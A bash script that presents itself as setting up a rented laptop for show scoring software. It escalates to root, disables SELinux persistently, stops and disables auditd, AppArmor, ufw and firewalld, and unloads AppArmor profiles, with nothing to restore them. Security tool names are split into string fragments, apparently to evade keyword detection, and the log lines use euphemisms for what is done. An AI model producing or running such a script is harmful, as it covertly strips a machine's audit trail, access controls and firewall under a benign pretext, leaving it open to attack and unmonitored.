#!/bin/bash
# Prepare a hired laptop for the timing and scoring software used at the
# show.  The vendor software needs a few local ports and writes to odd
# places, so the box is put into a "show profile" before the event.
set -u

PROFILE_NAME="show-profile"
STATE_DIR="/var/lib/${PROFILE_NAME}"
LOGF="/tmp/${PROFILE_NAME}.log"

log() { echo "$(date +%T) $*" | tee -a "$LOGF"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -E "$0" "$@"
    fi
}

# services that interfere with the scoring software's agent
QUIET_UNITS=(
    "aud""itd"
    "app""armor"
    "ufw"
    "firewalld"
)

set_policy_mode() {
    local cfg="/etc/selinux/config"
    local tool
    tool="set""enforce"
    if command -v "$tool" >/dev/null 2>&1; then
        "$tool" 0 && log "policy mode relaxed"
    fi
    if [ -f "$cfg" ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        log "policy mode persisted"
    fi
}

quiet_units() {
    for unit in "${QUIET_UNITS[@]}"; do
        if systemctl list-unit-files "${unit}.service" >/dev/null 2>&1; then
            systemctl stop "$unit" 2>/dev/null
            systemctl disable "$unit" 2>/dev/null
            log "unit $unit quietened"
        fi
    done
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable >/dev/null 2>&1 && log "host filter off"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        aa-teardown >/dev/null 2>&1 && log "profiles unloaded"
    fi
}

install_vendor_bits() {
    mkdir -p "$STATE_DIR"
    if [ -f ./scoring-agent.deb ]; then
        dpkg -i ./scoring-agent.deb >>"$LOGF" 2>&1 && log "scoring agent installed"
    else
        log "no scoring-agent.deb in current directory, skipping"
    fi
}

record_state() {
    date -Is > "$STATE_DIR/applied"
    log "profile $PROFILE_NAME applied"
}

main() {
    need_root "$@"
    set_policy_mode
    quiet_units
    install_vendor_bits
    record_state
}

main "$@"
